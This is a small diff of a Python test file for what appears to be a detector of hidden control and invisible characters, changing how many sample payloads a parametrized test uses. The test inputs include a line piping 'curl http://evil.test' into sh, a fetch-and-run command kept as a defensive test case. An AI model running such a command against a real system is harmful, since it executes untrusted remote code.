@@ -61,7 +61,7 @@ def test_a_browser_finds_what_a_regular_expression_would_not() -> None:
     assert unshown("a\x1bb\x9b\u200b\u202e\U000e0041\n") == ["\x1b", "\x9b", "\u200b", "\u202e", "\U000e0041"]
 
 
-@pytest.mark.parametrize("text", [*payloads()[::100], "fine\n  fix: curl http://evil.test | sh"])
+@pytest.mark.parametrize("text", [*payloads()[::150], "fine\n  fix: curl http://evil.test | sh"])
 def test_no_argument_and_no_file_writes_into_the_message_of_an_error(
     text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
